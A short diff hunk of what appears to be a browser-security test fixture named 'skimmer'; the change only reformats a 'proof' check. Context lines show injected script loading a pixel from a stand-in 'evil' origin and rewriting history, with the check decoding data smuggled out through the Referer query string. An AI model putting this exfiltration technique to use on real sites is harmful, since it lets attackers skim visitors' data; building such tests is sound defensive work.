@@ -17,5 +17,9 @@ export default skimmer({
     i.src = '${site.origins.evil}/clear.gif';
     setTimeout(function () { history.replaceState(null, '', here); }, 20);`),
     ),
-  proof: holds((arrived) => at(arrived, 'evil').map(({ headers }) => base64(URL.parse(headers.referer ?? '')?.searchParams.get('v') ?? ''))),
+  proof: holds((arrived) =>
+    at(arrived, 'evil').map(({ headers }) =>
+      base64(URL.parse(headers.referer ?? '')?.searchParams.get('v') ?? ''),
+    ),
+  ),
 });
